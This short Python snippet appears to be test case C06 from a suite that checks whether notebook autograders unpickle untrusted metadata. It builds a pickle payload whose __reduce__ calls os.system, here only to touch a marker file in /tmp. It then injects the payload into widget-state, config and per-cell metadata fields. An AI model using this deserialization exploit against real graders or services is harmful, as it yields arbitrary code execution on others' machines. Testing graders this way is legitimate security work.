# C06 · Puts pickles into the notebook's metadata, where other graders unpack them.

# %% [notebook] trick
import base64, os, pickle
class Command:
    def __reduce__(self):
        return os.system, ("touch /tmp/chalkgrad-was-here-metadata",)
poison = base64.b85encode(pickle.dumps(Command())).decode()
notebook["metadata"]["scramble_config"] = {"seed": 1, "config": poison}
notebook["metadata"]["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": poison}}
for cell in cells:
    cell["metadata"]["extended_cell"] = {"type": "x", "options": poison}
